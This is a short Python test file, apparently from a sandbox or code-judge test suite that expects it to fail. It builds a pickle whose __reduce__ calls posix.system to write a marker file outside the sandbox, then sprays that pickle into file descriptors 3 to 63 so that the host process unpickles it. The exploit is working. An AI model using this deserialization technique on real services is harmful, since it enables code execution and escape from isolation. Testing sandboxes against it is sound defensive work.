# expect: fail
# problem: number
# ruff: noqa
"""Writes pickles that run a program into its output pipe, framed and bare, and returns one."""

import pickle
import posix
import struct


class Payload:
    def __reduce__(self):
        return (posix.system, ("echo escaped > @@OUTSIDE@@/@@MARK@@-pickled",))


def solve(numbers):
    data = pickle.dumps(Payload())
    for number in range(3, 64):
        try:
            posix.write(number, struct.pack("<Q", len(data)) + data)
            posix.write(number, data)
        except OSError:
            continue
    return data
